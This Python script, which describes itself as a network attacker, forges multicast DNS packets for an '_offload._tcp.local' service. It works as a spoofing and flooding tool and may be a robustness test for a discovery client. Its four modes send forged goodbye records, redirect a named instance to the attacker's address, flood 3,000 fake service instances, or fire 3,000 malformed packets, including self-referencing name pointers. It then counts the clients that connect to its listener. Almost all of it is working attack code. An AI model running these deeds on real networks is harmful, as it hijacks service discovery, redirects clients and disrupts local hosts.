"""
Somebody in the network who means harm: ``forger.py DEED OWN-ADDRESS [INSTANCE-ID]``.

The deeds, all by multicast DNS: ``goodbye`` in the name of another; ``takeover``: its address
shall be ours; ``phantoms``: 3 000 instances that are none; ``garbage``: 3 000 packets that are
no DNS, or hardly. Whoever then connects to our port is counted on the standard output.
"""

import os
import random
import selectors
import socket
import struct
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from typing import Final

GROUP: Final = ("224.0.0.251", 5353)
SERVICE: Final = "_offload._tcp.local"
PORT: Final = 4711
COUNT: Final = 3000
PTR, TXT, SRV, A = 12, 16, 33, 1
FLUSH: Final = 0x8001  # in place of what was known


def name(text: str) -> bytes:
    """Return a name as DNS has it."""
    labels = text.rstrip(".").split(".")
    return b"".join(bytes([len(label)]) + label.encode("ascii") for label in labels) + b"\0"


def record(owner: str, kind: int, ttl: int, data: bytes, rule: int = FLUSH) -> bytes:
    """Return a resource record."""
    return name(owner) + struct.pack(">HHIH", kind, rule, ttl, len(data)) + data


def answer(*records: bytes) -> bytes:
    """Return a packet of answers."""
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def pointer(instance: str, ttl: int) -> bytes:
    return record(SERVICE, PTR, ttl, name(f"{instance}.{SERVICE}"), rule=1)


def located(instance: str, address: str) -> tuple[bytes, bytes]:
    where = struct.pack(">HHH", 0, 0, PORT) + name(f"{instance}.local")
    return (
        record(f"{instance}.{SERVICE}", SRV, 120, where),
        record(f"{instance}.local", A, 120, socket.inet_aton(address)),
    )


def phantom(instance: str, address: str) -> bytes:
    facts = (b"v=1", b"realm=default", b"group=", b"boot=1", b"gen=0")
    said = b"".join(bytes([len(fact)]) + fact for fact in facts)
    text = record(f"{instance}.{SERVICE}", TXT, 4500, said)
    return answer(pointer(instance, 4500), text, *located(instance, address))


def garbage(chance: random.Random) -> bytes:
    """Return bytes, in five kinds: noise, false counts, a name in itself, long, cut off."""
    counts = struct.pack(">HHHHHH", 0, 0x8400, 0, 65535, 65535, 65535)
    itself = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + b"\xc0\x0c"
    kinds = (
        os.urandom(chance.randrange(1, 1400)),
        counts + os.urandom(40),
        itself + struct.pack(">HHIH", PTR, 1, 120, 2) + b"\xc0\x0c",
        answer(pointer("x" * 63, 120), record(f"n9.{SERVICE}", TXT, 120, b"\xff" + b"a" * 10)),
        struct.pack(">HHHHHH", 0, 0x0200, 1, 0, 0, 0) + name(SERVICE) + struct.pack(">HH", PTR, 1),
    )
    return kinds[chance.randrange(len(kinds))]


def packets(deed: str, own: str, instance: str) -> Iterator[bytes]:
    """Yield what a deed sends."""
    chance = random.Random(1)
    if deed == "goodbye":
        yield answer(pointer(instance, 0))
    elif deed == "takeover":
        yield answer(*located(instance, own))
    elif deed == "phantoms":
        for number in range(COUNT):
            yield phantom(f"x{number:025}", own)
    else:
        for _ in range(COUNT):
            yield garbage(chance)


def main(deed: str, own: str, instance: str = "") -> None:
    """Do it, then count who comes; say so at each change."""
    listening = socket.create_server((own, PORT), backlog=1024)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        out.bind((own, GROUP[1]))
        out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        for number, packet in enumerate(packets(deed, own, instance)):
            out.sendto(packet, GROUP)
            if number % 20 == 19:
                time.sleep(0.012)
    print("done", flush=True)
    selector = selectors.DefaultSelector()
    selector.register(listening, selectors.EVENT_READ)
    while True:
        selector.select()
        visitor, _ = listening.accept()
        print("came", flush=True)
        with visitor:
            visitor.settimeout(1)
            with suppress(OSError):
                visitor.recv(65_536)
                visitor.sendall(b"HTTP/1.1 404 No\r\nContent-Length: 0\r\n\r\n")  # not tried again


if __name__ == "__main__":
    main(*sys.argv[1:])
